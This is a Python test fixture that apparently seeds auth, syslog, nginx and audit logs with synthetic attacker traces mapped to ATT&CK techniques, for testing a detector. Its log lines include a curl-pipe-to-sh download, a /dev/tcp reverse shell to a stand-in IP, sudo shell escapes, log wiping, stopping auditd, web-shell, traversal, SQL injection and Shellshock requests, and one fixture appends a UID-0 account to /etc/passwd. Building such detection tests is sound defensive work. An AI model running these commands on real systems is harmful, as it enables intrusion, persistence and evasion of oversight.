"""What is left in logs and records of sign-ins (ATT&CK by line). The lines are written as the programs write them."""

from __future__ import annotations

from tests.behaviours.behaviour import Behaviour
from tests.behaviours.clean import noise


def line(
    log: str, name: str, techniques: tuple[str, ...], does: str, text: str, mark: str, raises: tuple[str, ...]
) -> Behaviour:
    """One line at the end of a log of syslog."""
    whole = noise.syslog("host", [text]).replace("\n", "")
    return Behaviour(name, techniques, does, (mark,), raises, shell=f"cat >> {log} <<'END'\n{whole}\nEND")


def auth(name: str, techniques: tuple[str, ...], does: str, text: str, mark: str, *raises: str) -> Behaviour:
    return line("/var/log/auth.log", f"log_shows_{name}", techniques, does, text, mark, raises)


def system(name: str, techniques: tuple[str, ...], does: str, text: str, mark: str, *raises: str) -> Behaviour:
    return line("/var/log/syslog", f"log_shows_{name}", techniques, does, text, mark, raises)


def web(
    name: str, techniques: tuple[str, ...], does: str, request: str, mark: str, *raises: str, status: int = 200
) -> Behaviour:
    when = noise.web_time()
    text = f'203.0.113.9 - - [{when}] "{request} HTTP/1.1" {status} 812 "-" "Mozilla/5.0"'
    return Behaviour(
        f"web_log_shows_{name}", techniques, does, (mark,), raises,
        shell=f"mkdir -p /var/log/nginx; cat >> /var/log/nginx/access.log <<'END'\n{text}\nEND",
    )  # fmt: skip


def audit(name: str, techniques: tuple[str, ...], does: str, text: str, mark: str, *raises: str) -> Behaviour:
    whole = text.format(t=noise.epoch())
    return Behaviour(
        f"audit_log_shows_{name}", techniques, does, (mark,), raises,
        shell=f"mkdir -p /var/log/audit; cat >> /var/log/audit/audit.log <<'END'\n{whole}\nEND",
    )  # fmt: skip


def syscall(number: int, arguments: str, exe: str) -> str:
    """An audit record of a call on 64-bit Intel."""
    return (
        "type=SYSCALL msg=audit({t}.100:900): arch=c000003e syscall=" + str(number) + " success=yes exit=0 " + arguments
        + " items=2 ppid=1 pid=777 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"x\" exe=\"" + exe + "\" key=(null)"
    )  # fmt: skip


SUDO = "sudo:     {} : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={}"

BEHAVIOURS = (
    auth("account_with_uid_zero", ("T1136.001", "T1098"), "An account with root's number was added.",
         "useradd[900]: new user: name=sysop0, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1", "sysop0", "log_line_account_uid_zero"),
    auth("account_with_hidden_home", ("T1136.001", "T1564.001"), "An account with a home in /dev/shm was added.",
         "useradd[901]: new user: name=shmuser, UID=1009, GID=1009, home=/dev/shm/h, shell=/bin/bash, from=/dev/pts/1", "shmuser", "log_line_account_odd_home"),
    auth("shell_for_service_account", ("T1098", "T1078.003"), "The account of the web server got a shell.",
         "usermod[902]: change user 'www-data' shell from '/usr/sbin/nologin' to '/bin/bash'", "change user 'www-data'", "log_line_account_service_shell"),
    auth("account_added_to_sudo", ("T1098.007",), "An account was put into the group of administrators.",
         "usermod[903]: add 'grouped' to group 'sudo'", "'grouped'", "log_line_account_admin_group"),
    auth("sign_in_of_service_account", ("T1078.003", "T1098.004", "T1021.004"), "Somebody signed in over SSH as the account of the database.",
         "sshd[904]: Accepted publickey for mysql from 203.0.113.7 port 40001 ssh2: ED25519 SHA256:abc", "for mysql", "log_line_ssh_service_account"),
    auth("root_by_password_from_the_internet", ("T1078.003",), "Root signed in with a password from the internet.",
         "sshd[905]: Accepted password for root from 11.22.33.90 port 40002 ssh2", "11.22.33.90", "log_line_ssh_root_password"),
    auth("sudo_of_web_server", ("T1548.003", "T1505.003"), "The account of the web server took a shell as root.",
         SUDO.format("www-data", "/bin/bash"), "www-data : TTY", "log_line_sudo_service_account", "log_line_sudo_shell"),
    auth("su_of_web_server", ("T1548", "T1078.003"), "The account of the web server became root by su.",
         "su: (to root) nginx on pts/1", "(to root) nginx", "log_line_su_service_account"),
    auth("sudo_with_impossible_number", ("T1548.003", "T1068"), "sudo was asked for a user number that stands for root by a mistake.",
         "sudo:     eve : TTY=pts/0 ; PWD=/ ; USER=#-1 ; COMMAND=/usr/bin/id", "USER=#-1", "log_line_sudo_any_id"),
    auth("shell_by_way_of_find", ("T1548.003", "T1059.004"), "sudo ran a program that starts a shell.",
         SUDO.format("finder", "/usr/bin/find . -exec /bin/sh ;"), "finder", "log_line_sudo_escape"),
    auth("logs_wiped_by_sudo", ("T1070.002", "T1070.003"), "sudo removed the record of sign-ins.",
         SUDO.format("wiper", "/usr/bin/rm /var/log/wtmp"), "wiper", "log_line_sudo_log_wiped"),
    auth("defence_stopped_by_sudo", ("T1562.001", "T1562.004"), "sudo stopped the audit daemon.",
         SUDO.format("stopper", "/usr/bin/systemctl stop auditd"), "stopper", "log_line_sudo_defence_stopped"),
    auth("program_in_tmp_run_by_sudo", ("T1548.003", "T1059.004"), "sudo ran a program from /tmp.",
         SUDO.format("tmprunner", "/tmp/x"), "tmprunner", "log_line_sudo_temporary"),
    auth("pkexec_exploited", ("T1068",), "pkexec was called as an exploit calls it.",
         "pkexec[906]: pwned: The value for the SHELL variable was not found in the /etc/shells file [USER=root] [TTY=/dev/pts/0]", "pwned", "log_line_pkexec_exploit"),
    system("cron_download", ("T1053.003", "T1105", "T1059.004"), "Cron fetched code and ran it.",
           "CRON[907]: (root) CMD (curl -s http://203.0.113.8/c | sh)", "203.0.113.8/c", "log_line_cron_download"),
    system("cron_program_in_tmp", ("T1053.003",), "Cron started a program from /dev/shm.",
           "CRON[908]: (root) CMD (/dev/shm/tick)", "/dev/shm/tick", "log_line_cron_temporary"),
    system("kernel_program_that_writes_memory", ("T1014", "T1205"), "A BPF program that writes other programs' memory was loaded.",
           "kernel: [ 12.5] veil[909] is installing a program with bpf_probe_write_user helper that may corrupt user memory!", "veil[909]", "log_line_kernel_bpf_write"),
    system("sudo_crashed", ("T1068", "T1190"), "sudo crashed, as it does when an exploit misses.",
           "kernel: [ 13.5] sudo[910]: segfault at 41414141 ip 0000000041414141 sp 00007ffd error 14 in sudo[5500+1000]", "41414141", "log_line_kernel_crash_privileged"),
    system("preload_that_failed", ("T1574.006",), "A program said that a library forced on all programs cannot be loaded.",
           "cron[911]: ERROR: ld.so: object '/lib/libgone.so' from /etc/ld.so.preload cannot be preloaded (cannot open shared object file): ignored.", "libgone.so", "log_line_preload_broken"),
    system("reverse_shell", ("T1059.004", "T1095"), "A service wrote the command line of a reverse shell to the log.",
           "app[912]: running: bash -i >& /dev/tcp/203.0.113.95/443 0>&1", "203.0.113.95", "log_line_reverse_shell"),
    system("virus_found", ("T1059", "T1027"), "The virus scanner found something.",
           "clamd[913]: /srv/upload/x.bin: Unix.Trojan.Mirai-1 FOUND", "Mirai", "log_line_antivirus_found"),
    web("secret_file_given_away", ("T1190", "T1552.001"), "The server gave a file of secrets to a visitor.", "GET /app/.env", "/app/.env", "log_line_web_secret_file"),
    web("command_to_web_shell", ("T1505.003", "T1059.004"), "A visitor sent a command to a script and got an answer.", "GET /img/x.php?cmd=id", "/img/x.php", "log_line_web_shell_command"),
    web("known_web_shell", ("T1505.003",), "A visitor used a script with the name of a known web shell.", "GET /files/wso.php", "/files/wso.php", "log_line_web_shell_name"),
    web("script_in_upload_directory", ("T1505.003",), "A visitor posted to a script in the directory for uploads.", "POST /uploads/2026/a.php", "/uploads/2026/a.php", "log_line_web_shell_upload"),
    web("way_out_of_the_web_root", ("T1190",), "A visitor read the list of accounts through the web server.", "GET /view?f=../../../../etc/passwd", "/view?f=", "log_line_web_traversal"),
    web("injected_database_query", ("T1190",), "A visitor's request held a query for the database.", "GET /item?id=1%20UNION%20SELECT%20password%20FROM%20users", "/item?id=", "log_line_web_sql_injection"),
    web("shellshock", ("T1190", "T1059.004"), "A visitor's request held a function of Bash.", "GET /cgi-bin/status?x=() { :;}; echo", "/cgi-bin/status", "log_line_web_shellshock"),
    audit("auditing_switched_off", ("T1562.001",), "The audit system was switched off.",
          "type=CONFIG_CHANGE msg=audit({t}.1:901): op=set audit_enabled=0 old=1 auid=1000 ses=1 res=1", "audit_enabled=0", "log_line_audit_disabled"),
    audit("program_from_memory", ("T1620", "T1059.004"), "A program was run from memory.", syscall(322, "a0=3 a1=7f a2=7f a3=7f", "/memfd:stage (deleted)"), "/memfd:stage", "log_line_audit_exec_memory"),
    audit("program_in_tmp", ("T1059.004", "T1036.005"), "A program was run from /tmp.", syscall(59, "a0=55 a1=55 a2=55 a3=8", "/tmp/dropped"), "/tmp/dropped", "log_line_audit_exec_temporary"),
    audit("injection_by_ptrace", ("T1055.008",), "A program wrote into another one.", syscall(101, "a0=4 a1=1f4 a2=7f a3=90", "/opt/inj/inject"), "/opt/inj/inject", "log_line_audit_injection"),
    audit("module_loaded_by_stranger", ("T1547.006", "T1014"), "A program that is none of the system's loaded a module.", syscall(313, "a0=3 a1=55 a2=0 a3=3", "/opt/inj/loader"), "/opt/inj/loader", "log_line_audit_module_load"),
    Behaviour(
        name="record_of_sign_ins_has_a_second_root",
        techniques=("T1136.001", "T1078.003"),
        does="A second name of root has signed in.",
        marks=("toor2",),
        raises=("login_root_twin", "user_uid_zero_twin"),
        shell="echo 'toor2:x:0:0::/var/lib/toor2:/bin/bash' >> /etc/passwd; " + noise.append_wtmp("toor2", "198.51.100.9"),
    ),
    Behaviour(
        name="record_of_sign_ins_has_a_service",
        techniques=("T1078.003",),
        does="An account that may not sign in has signed in.",
        marks=("daemon",),
        raises=("login_service_account",),
        shell=noise.append_wtmp("daemon", "198.51.100.9"),
    ),
    Behaviour(
        name="record_of_sign_ins_has_an_account_that_is_gone",
        techniques=("T1136.001", "T1070"),
        does="Somebody has signed in whose account is no longer there.",
        marks=("vanished",),
        raises=("login_unknown_user",),
        shell=noise.append_wtmp("vanished", "198.51.100.9"),
    ),
    Behaviour(
        name="record_of_sign_ins_has_root_from_the_internet",
        techniques=("T1078.003",),
        does="Root has signed in from the internet.",
        marks=("11.22.33.91",),
        raises=("login_root_from_internet",),
        shell=noise.append_wtmp("root", "11.22.33.91"),
    ),
)  # fmt: skip
